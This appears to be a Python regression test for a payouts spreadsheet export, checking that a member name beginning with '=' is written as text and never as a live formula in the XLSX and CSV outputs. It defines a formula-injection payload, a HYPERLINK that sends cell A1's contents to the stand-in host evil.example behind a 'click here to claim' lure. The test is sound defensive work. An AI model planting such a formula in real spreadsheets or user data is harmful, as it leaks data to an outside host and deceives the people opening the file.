"""Issue 13: the payouts spreadsheet wrote a name beginning with "=" as a live formula. Every cell
of text comes out as text, through the one spreadsheet writer (`server.infra.sheets`); the
payouts' one export is the list's generated `…/payouts/export`."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from server.infra.sheets import Sheet, to_csv, to_xlsx
from server.infra.tenancy import tenant_scope
from server.modules.welfare import service
from tests.modules.orgs.factories import make_member
from tests.modules.welfare.conftest import admin, build_world, holiday

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取")'


def _no_formulas(body: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


async def test_a_name_beginning_with_equals_comes_out_as_text(client, tenant, tenant_headers):
    world = await build_world(tenant.slug, n=1)
    async with tenant_scope(tenant.slug):
        m = await make_member(world.union, name=EVIL)
        h = await service.file_household(
            service.HouseholdIn(
                member_id=m.id, household_size=2, reasons=["illness"], income_per_head_fen=1, bank_account="6222000099"
            ),
            admin(tenant.slug),
        )
        await service.review_household(h.id, service.ReviewIn(approve=True), admin(tenant.slug))
        c = await service.create_campaign(holiday(), admin(tenant.slug))
        await service.approve_campaign(c.id, admin(tenant.slug))
    x = await client.get(f"/api/v1/t/{tenant.slug}/campaigns/{c.id}/payouts/export", headers=tenant_headers)
    assert x.status_code == 200, x.text
    _no_formulas(x.content)
    rows = list(load_workbook(io.BytesIO(x.content)).worksheets[0].iter_rows(values_only=True))
    assert EVIL in {v for row in rows[1:] for v in row}, rows


def test_the_one_writer_keeps_text_as_text_and_numbers_as_numbers():
    body = to_xlsx(Sheet("t", ["a", "b", "c"], [[EVIL, 12, 3.5], ["+1", "-2", "@x"]], number_formats={3: "0.00"}))
    _no_formulas(body)
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    assert [c.value for c in ws[2]] == [EVIL, 12, 3.5] and ws.cell(2, 3).number_format == "0.00"
    assert [c.data_type for c in ws[3]] == ["s", "s", "s"]
    text = to_csv(["a"], [[EVIL], [7]]).decode("utf-8-sig")
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点此领取"")"' and "7" in text
